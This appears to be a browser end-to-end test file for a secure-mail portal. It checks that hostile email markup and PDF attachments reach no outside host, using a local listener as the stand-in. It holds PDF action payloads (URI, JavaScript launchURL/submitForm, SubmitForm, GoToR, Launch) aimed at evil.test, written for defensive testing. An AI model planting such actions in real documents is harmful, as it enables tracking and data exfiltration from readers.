"""Hostile mail in the page that shows it, in a real browser, with somebody who listens outside (P16)."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Final

import pytest
from playwright.sync_api import Dialog, Page, Request, Route, expect
from pytest_django.live_server_helper import LiveServer

from tests.journey.hostile import HOSTILE, REMOTE
from tests.journey.pdfs import pdf
from tests.journey.portal_ground import PIXEL, Ground, mail
from tests.needs import needs
from tests.peers.chromium import Chromium, Visit, browser
from zegel.journey.custody.models import Conversation, Recipient

pytestmark = pytest.mark.django_db(transaction=True)

ACTIONS = {
    "an address": b"<</S/URI/URI(http://evil.test/uri)>>",
    "a script": b"<</S/JavaScript/JS(app.launchURL('http://evil.test/js', true); this.submitForm('http://evil.test/f'))>>",
    "a form": b"<</S/SubmitForm/F<</FS/URL/F(http://evil.test/sf)>>/Flags 4>>",
    "another document": b"<</S/GoToR/F<</FS/URL/F(http://evil.test/gotor)>>/D[0/Fit]>>",
    "a program": b"<</S/Launch/F<</FS/URL/F(http://evil.test/launch)>>>>",
}


@dataclass
class Canary:
    """Somebody outside: whoever comes to this port left the portal."""

    port: int
    heard: list[bytes] = field(default_factory=list)


@contextmanager
def canary() -> Iterator[Canary]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        there, stop = Canary(listener.getsockname()[1]), threading.Event()

        def listen() -> None:
            while not stop.is_set():
                try:
                    visitor, _ = listener.accept()
                except TimeoutError:
                    continue
                with visitor:
                    visitor.settimeout(2)
                    try:
                        there.heard.append(visitor.recv(4096))
                    except OSError as cause:
                        there.heard.append(repr(cause).encode())

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield there
        finally:
            stop.set()
            thread.join()


ELSEWHERE: Final = re.compile("^https?://[^/]*[.](?:test|example[.]org)/")


@pytest.fixture(scope="module")
def outside() -> Iterator[Canary]:
    with canary() as there:
        yield there


@pytest.fixture(scope="module")
def chromium(outside: Canary) -> Iterator[Chromium]:
    needs("chromium")
    hosts = dict.fromkeys(("*.test", "*.example.org"), f"127.0.0.1:{outside.port}")
    with pytest.MonkeyPatch.context() as patch, browser(hosts) as running:
        patch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")  # Playwright keeps an event loop in this thread
        yield running


@pytest.fixture(autouse=True)
def nothing_heard(outside: Canary) -> Iterator[None]:
    outside.heard.clear()
    yield


def open_in(page: Page, ground: Ground, live_server: LiveServer, recipient: Recipient) -> None:
    page.goto(f"{live_server.url}/m/{ground.link(recipient)}")
    page.get_by_role("button", name="+31 6 ****5678").click()
    page.get_by_label("Code van zes cijfers").fill(ground.last_code())
    page.get_by_role("button", name="Bericht openen").click()
    expect(page).to_have_url(re.compile("/read$"))


def strangers(visit: Visit, live_server: LiveServer) -> list[str]:
    """What was asked for beyond the pages of this conversation."""
    own = re.compile(rf"{re.escape(live_server.url)}/(?:m/|r/|static/|favicon)")
    return [asked for asked in visit.requests if not asked.startswith("data:") and not own.match(asked)]


def each_alone(ground: Ground) -> tuple[Conversation, int]:
    """Every piece of the corpus as a message of its own in one conversation."""
    pieces = list(HOSTILE.values())
    conversation = ground.conversation(mail(markup=pieces[0], subject="0"))
    for number, source in enumerate(pieces[1:], 1):
        ground.clock.forward(seconds=1)
        ground.add(conversation, mail(markup=source, subject=str(number)))
    return conversation, len(pieces)


def test_the_canary_hears_what_leaves(chromium: Chromium, outside: Canary) -> None:
    with chromium.visit() as visit:
        visit.page.set_content('<img src="http://evil.test/x"><img src="https://images.example.org/y">')
        visit.page.wait_for_timeout(500)
    assert any(b"/x" in one for one in outside.heard)
    assert any(
        one.startswith(b"\x16\x03") and b"images.example.org" in one for one in outside.heard
    )  # a TLS ClientHello


def test_each_hostile_message_does_nothing_in_the_real_page(
    ground: Ground, live_server: LiveServer, chromium: Chromium, outside: Canary
) -> None:
    """With JavaScript on: what the browser could run, it doesn't."""
    ground.configure(url=live_server.url)
    conversation, count = each_alone(ground)
    recipient = ground.recipient(conversation)
    with chromium.visit() as visit:
        page, said = visit.page, list[str]()

        def told(dialog: Dialog) -> None:
            said.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", told)
        open_in(page, ground, live_server, recipient)
        seen = 0
        for number in range(1, -(-count // 20) + 1):
            page.goto(f"{live_server.url}/r/{recipient.id}/read?page={number}")
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            frames = page.locator("article iframe")
            for place in range(frames.count()):
                frames.nth(place).scroll_into_view_if_needed()
            page.wait_for_timeout(300)
            shown = page.main_frame.child_frames
            assert len(shown) == frames.count() > 0
            assert all(re.search(r"/body/[0-9a-f-]{36}$", one.url) for one in shown), [one.url for one in shown]
            for one in shown:
                one.wait_for_load_state()
                assert one.locator("main").count() == 1
                assert (
                    one.locator("script, form, input, main style, link, base, object, iframe, svg, math").count() == 0
                )
            seen += len(shown)
        assert seen == count
        assert said == [] and len(visit.context.pages) == 1
        assert page.url.startswith(f"{live_server.url}/r/{recipient.id}/read?page=")
        assert strangers(visit, live_server) == []
    assert outside.heard == []


def test_with_images_allowed_only_their_own_hosts_are_asked_and_only_for_images(
    ground: Ground, live_server: LiveServer, chromium: Chromium, outside: Canary
) -> None:
    ground.configure(url=live_server.url)
    pieces = [source for name, source in HOSTILE.items() if "plaintext" not in source and "swallow" not in name]
    wanted = [one.format(number) for number, one in enumerate(REMOTE.values())]
    markup = "".join(f"<div>{one}</div>" for one in (*wanted, *pieces, *wanted))
    recipient = ground.recipient(ground.conversation(mail(markup=markup)))
    seen: list[Request] = []

    def give(route: Route) -> None:
        seen.append(route.request)
        route.fulfill(body=PIXEL, headers={"Content-Type": "image/png"})

    with chromium.visit(java_script_enabled=False) as visit:
        page = visit.page
        open_in(page, ground, live_server, recipient)
        expect(page.frame_locator("iframe").locator("body")).to_be_visible()
        page.wait_for_timeout(300)
        assert strangers(visit, live_server) == [] and outside.heard == []
        visit.context.route(ELSEWHERE, give)
        page.get_by_role("button", name="Afbeeldingen laden, deze keer").click()
        expect(page.frame_locator("iframe").get_by_alt_text("Kaart").first).to_have_js_property("naturalWidth", 1)
        page.wait_for_timeout(500)
        assert page.url.endswith("/read") and len(visit.context.pages) == 1
        assert {one.url for one in seen} == {"https://images.example.org/0", "https://images.example.org/1"}
        for one in seen:
            headers = one.all_headers()
            assert one.resource_type == "image" and one.method == "GET"
            assert "referer" not in headers and "cookie" not in headers and "origin" not in headers
        assert set(strangers(visit, live_server)) == {one.url for one in seen}
        # For this view only.
        visit.context.unroute(ELSEWHERE)
        asked = len(visit.requests)
        page.reload()
        expect(page.frame_locator("iframe").locator("body")).to_be_visible()
        page.wait_for_timeout(300)
        assert [one for one in visit.requests[asked:] if ELSEWHERE.match(one)] == []
    assert outside.heard == []


def test_a_link_in_a_pdf_is_followed_when_somebody_clicks_it(
    ground: Ground, live_server: LiveServer, chromium: Chromium, outside: Canary
) -> None:
    """So what the other PDF files ask for would be heard."""
    ground.configure(url=live_server.url)
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A" + ACTIONS["an address"] + b">>]"
    octets = pdf(page=link)
    recipient = ground.recipient(ground.conversation(mail(files={"verslag.pdf": ("application/pdf", octets)})))
    with chromium.visit() as visit:
        open_in(visit.page, ground, live_server, recipient)
        with visit.context.expect_page() as opening:
            visit.page.get_by_role("link", name="Bekijken verslag.pdf").click()
        shown = opening.value
        shown.wait_for_load_state()
        shown.wait_for_timeout(1500)
        assert outside.heard == []
        shown.mouse.click(780, 250)
        for _ in range(50):
            if outside.heard:
                break
            shown.wait_for_timeout(100)
        assert any(b"/uri" in one and b"Referer" not in one and b"Cookie" not in one for one in outside.heard)


@pytest.mark.parametrize("action", ACTIONS.values(), ids=ACTIONS.keys())
@pytest.mark.parametrize("place", ["when it opens", "when its page is seen"])
def test_a_pdf_is_seen_in_the_browser_and_reaches_nobody(
    ground: Ground, live_server: LiveServer, chromium: Chromium, outside: Canary, action: bytes, place: str
) -> None:
    ground.configure(url=live_server.url)
    octets = pdf(
        opens=b"/OpenAction" + action if place == "when it opens" else b"",
        page=b"/AA<</O" + action + b">>" if place != "when it opens" else b"",
    )
    recipient = ground.recipient(ground.conversation(mail(files={"verslag.pdf": ("application/pdf", octets)})))
    with chromium.visit() as visit:
        open_in(visit.page, ground, live_server, recipient)
        with visit.context.expect_page() as opening:
            visit.page.get_by_role("link", name="Bekijken verslag.pdf").click()
        shown = opening.value
        shown.wait_for_load_state()
        shown.wait_for_timeout(1000)
        # The viewer stands in a page of the browser's own, not of the portal.
        assert any(one.url.startswith("chrome-extension://") for one in shown.frames)
        assert re.search(r"/view/[0-9a-f-]{36}/\d+$", shown.url)
        assert len(visit.context.pages) == 2
        assert [one for one in strangers(visit, live_server) if not one.startswith("chrome")] == []
    assert outside.heard == []
